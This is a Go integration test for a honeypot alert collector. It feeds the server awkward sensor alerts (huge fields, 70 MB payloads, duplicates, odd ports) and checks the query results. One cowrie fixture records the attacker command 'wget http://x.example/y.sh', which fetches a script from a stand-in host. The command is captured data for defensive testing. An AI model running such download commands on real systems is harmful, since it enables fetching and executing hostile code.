package integration

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/peba-edge/peba/integration/edgetest"
)

// wireAlert is an alert with its ports and more elements. Source and target are of the
// form ADDRESS:PORT.
func wireAlert(analyzer, source, target string, more ...string) string {
	from, fromPort, _ := strings.Cut(source, ":")
	to, toPort, _ := strings.Cut(target, ":")
	return fmt.Sprintf(`<Alert><Analyzer id="%s"/><CreateTime tz="+0200">2026-11-28 22:06:00</CreateTime><Source category="ipv4" port="%s" protocol="tcp">%s</Source>`+
		`<Target category="ipv4" port="%s" protocol="tcp">%s</Target><Request type="description">x</Request>%s</Alert>`, analyzer, fromPort, from, toPort, to, strings.Join(more, ""))
}

// awkward are messages that sensors send and that once cost alerts, or falsified what is
// shown of them.
func awkward() map[string][]string {
	const sensor = "80.158.1.7"
	uuid := edgetest.FieldXML("uuid", "88888888-0000-1111-2222-333333333333")
	good := wireAlert("h0neytr4p-community-01", "8.8.4.4:1", sensor+":443", uuid)
	ddos := wireAlert("ddospot-community-01", "9.9.9.9:80", sensor+":0", uuid)
	var samples, headers []string
	for i := range 10 {
		sample := base64.StdEncoding.EncodeToString(fmt.Appendf(nil, "MZ%08d%s", i, make([]byte, 5<<20)))
		samples = append(samples, wireAlert("dionaea-community-01", "8.8.4.4:2", sensor+":445", uuid, `<Request type="largepayload">`+sample+`</Request>`))
	}
	for i := range 110_000 {
		headers = append(headers, edgetest.FieldXML(fmt.Sprintf("header_%x", i), ""))
	}
	return map[string][]string{
		"a name of 70 kB": {good, wireAlert("h0neytr4p-community-01", "8.8.4.4:3", sensor+":443", uuid, edgetest.FieldXML("header_"+strings.Repeat("a", 70_000), "1"))},
		"110,000 fields":  {wireAlert("h0neytr4p-community-01", "8.8.4.4:4", sensor+":443", uuid, strings.Join(headers, ""))},
		"70 MB":           samples,
		"empty requests": {
			wireAlert("elasticpot-1", "8.8.4.4:", sensor+":9200", uuid, `<Request type="url">/_search</Request><Request type="raw"></Request>`),
			wireAlert("glutton-community-01", "8.8.4.4:5", sensor+":3389", uuid, `<Request type="binary"/>`),
			wireAlert("elasticpot-1", "8.8.4.4:6", sensor+":9200", uuid, `<Request type="url"/>`),
		},
		"three equal alerts":     {ddos, ddos, ddos},
		"host name in the id":    {wireAlert("cowrie-1.htw.example", "1.0.0.1:7", sensor+":22", uuid, edgetest.FieldXML("input", "['wget http://x.example/y.sh']"))},
		"ports None and 0":       {wireAlert("conpot-community-01", "8.8.4.4:8", sensor+":None", uuid)},
		"its own address":        {wireAlert("suricata-community-01", sensor+":22", "1.0.0.1:50000", uuid, edgetest.FieldXML("externalIP", sensor))},
		"without a host name":    {wireAlert("cowrie-community-01", "8.8.4.4:9", sensor+":22", uuid, edgetest.FieldXML("hostname", "tpot-8")), wireAlert("h0neytr4p-community-01", "8.8.4.4:10", sensor+":443", uuid, edgetest.FieldXML("request_uri", "/"))},
		"user and password":      {wireAlert("rdphoneypot-community-01", "8.8.4.4:11", sensor+":3389", uuid, edgetest.FieldXML("username", "Administrator"), edgetest.FieldXML("password", "P@ss"))},
		"time and spaces of ISO": {strings.NewReplacer("2026-11-28 22:06:00", "\n2026-11-28T20:06:00.5Z ", "8.8.4.4", " 8.8.4.4\n", "333</", "333\n</").Replace(wireAlert("medpot-community-01", "8.8.4.4:12", sensor+":2575", uuid))},
	}
}

// TestAwkwardMessages sends them all, and compares what questions show. In
// Elasticsearch an operator's template has come before.
func TestAwkwardMessages(t *testing.T) {
	t.Run("sqlite", func(t *testing.T) { testAwkwardMessages(t, startServer(t, "", "")) })
	t.Run("elasticsearch", func(t *testing.T) {
		e := elastics.New(t)
		e.CatchAll()
		s := startServer(t, e.Options(), "")
		testAwkwardMessages(t, s, func() {
			s.Drain()
			if !e.Refresh() {
				t.Fatal("the indices cannot be refreshed")
			}
		})
	})
}

func testAwkwardMessages(t *testing.T, s *server, settle ...func()) {
	s.User("soc's token\n", "add", "soc", "--token-file", "-")
	sent := 0
	for name, alerts := range awkward() {
		message := edgetest.MessageXML(edgetest.CommunityUser, edgetest.CommunityToken, alerts...)
		for range 2 { // as a client that has not seen the answer
			if got := s.Post(message); got.Status != http.StatusOK || got.Body != edgetest.OKResult {
				t.Errorf("%s: %d %s", name, got.Status, got.Body)
			}
		}
		sent += len(alerts)
	}
	for _, f := range settle {
		f()
	}
	ask := func(path string, into any) {
		t.Helper()
		got := s.Request(http.MethodGet, path, "", "Authorization", basic("soc", "soc's token"))
		if err := json.Unmarshal([]byte(got.Body), into); err != nil || got.Status != http.StatusOK {
			t.Fatalf("%s: %d %s", path, got.Status, got.Body)
		}
	}

	var sources []struct{ IP string }
	ask("/alert/retrieveIPs?out=json&ci=-1", &sources)
	if len(sources) != 2 || sources[0].IP != "8.8.4.4" || sources[1].IP != "1.0.0.1" {
		t.Errorf("bad addresses are %v: neither a victim of reflection nor the sensor is one", sources)
	}
	ports := make(map[string]any)
	ask("/alert/tops?type=destports&topx=30", &ports)
	if got, want := slices.Sorted(maps.Keys(ports)), []string{"22", "2575", "3389", "443", "445", "50000", "9200"}; !slices.Equal(got, want) {
		t.Errorf("attacked ports are %q, want %q", got, want)
	}
	var stats struct {
		Honeypots struct{ TotalNumberAlerts, TotalNumberHoneypots int } `json:"communityHoneypots"`
	}
	ask("/alert/TpotStats", &stats)
	if stats.Honeypots.TotalNumberAlerts != sent || stats.Honeypots.TotalNumberHoneypots != 1 {
		t.Errorf("%d alerts were sent by one sensor: %+v", sent, stats)
	}
	requests := s.requestStrings()
	for peerType, want := range map[string][]string{
		"Service(ES)":         {"/_search", "Attack on port 9200/tcp"},
		"Network(glutton)":    {"Attack on port 3389/tcp"},
		"SSH/console(cowrie)": {"Username: &lt;none&gt; | Password: &lt;none&gt;", "wget http://x.example/y.sh"},
		"RDP(rdphoneypot)":    {"Username: &quot;Administrator&quot; | Password: &quot;P@ss&quot;"},
		"Service(Medicine)":   {"Attack on port 2575/tcp"},
	} {
		if got := requests[peerType]; !slices.Equal(got, want) {
			t.Errorf("requests of %s are %q, want %q", peerType, got, want)
		}
	}
	if n := len(requests["DDoS(ddospot)"]); n != 3 {
		t.Errorf("of three equal alerts %d are stored", n)
	}
}
